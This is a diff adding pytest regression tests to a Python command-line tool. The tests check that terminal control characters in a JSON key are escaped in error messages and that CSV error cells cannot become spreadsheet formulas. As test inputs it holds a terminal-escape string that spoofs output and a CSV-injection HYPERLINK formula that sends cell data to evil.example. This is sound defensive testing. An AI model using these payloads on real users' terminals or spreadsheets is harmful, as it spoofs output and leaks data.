@@ -4,6 +4,7 @@ exactly as before (no rule, fact or grounding changed)."""
 
 from __future__ import annotations
 
+import csv
 import json
 import subprocess
 import sys
@@ -104,8 +105,54 @@ def test_the_baseline_profile_is_answered_as_the_source_says(baseline):
 def test_hostile_top_level_field_is_rejected_as_an_unknown_field(engine, baseline, key):
     with pytest.raises(ProfileError) as raised:
         engine.evaluate(dict(VALID, **{key: ["business_license"]}))
-    assert key in _fields(raised.value)
+    assert key in _fields(raised.value)  # (the error's words name it by its escape)
     assert engine.evaluate(VALID) == baseline
+
+
+ESCAPES = "\u001b]0;PWNED\u0007\u001b[2J\u001b[31mfake: all good\u001b[0m\u2028\u202e"
+"""A key that sets a terminal's title, clears its screen, prints in red, breaks a line and reverses
+the rest (a security review): as the profile's key, printed raw by the command line's error."""
+
+
+@pytest.mark.parametrize("command", ["evaluate", "batch"])
+def test_a_key_s_control_characters_reach_no_terminal(tmp_path, command):
+    source = tmp_path / "in.json"
+    source.write_text(json.dumps({"subject": {"type": "enterprise"}, ESCAPES: 1}) + "\n", encoding="utf-8")
+    proc = subprocess.run(
+        [sys.executable, "-m", "livegate", command, str(source), *(["--workers", "1"] if command == "batch" else [])],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        timeout=120,
+    )
+    assert proc.returncode in (1, 2), proc.stderr
+    assert not [c for c in proc.stderr if c in "\x1b\x07\u2028\u202e"], proc.stderr
+    assert "\\u001b]0;PWNED\\u0007\\u001b[2J" in proc.stderr and "unknown field" in proc.stderr
+    assert not [c for c in proc.stdout if c in "\x1b\x07"]  # batch's JSON lines: JSON escapes them
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_batch_csv_s_error_cell_is_never_a_spreadsheet_formula(tmp_path, start):
+    """The error cell starts with the field as the line wrote it: ``{"=HYPERLINK(…)": 1}`` was a formula
+    a spreadsheet ran on opening the CSV (OWASP's CSV injection)."""
+    key = start + 'HYPERLINK("http://evil.example/?x="&A1,"click")'
+    source, out = tmp_path / "in.jsonl", tmp_path / "out.csv"
+    lines = [{"subject": {"type": "enterprise"}}, {"subject": {"type": "enterprise"}, key: 1}]
+    source.write_text("".join(json.dumps(x) + "\n" for x in lines), encoding="utf-8")
+    proc = subprocess.run(
+        [sys.executable, "-m", "livegate", "batch", str(source), "--format", "csv", "-o", str(out), "--workers", "1"],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        timeout=120,
+    )
+    assert proc.returncode == 1, proc.stderr
+    rows = list(csv.reader(out.read_text(encoding="utf-8").splitlines()))
+    assert rows[1][1] == ""  # the good line: no error
+    cell = rows[2][1]
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) and "HYPERLINK" in cell and "unknown field" in cell
+    # a printable start is kept behind an apostrophe; a tab or a carriage return is named by its escape
+    assert cell.startswith("'" + start if start.isprintable() else f"\\u{ord(start):04x}")
 
 
 @pytest.mark.parametrize(
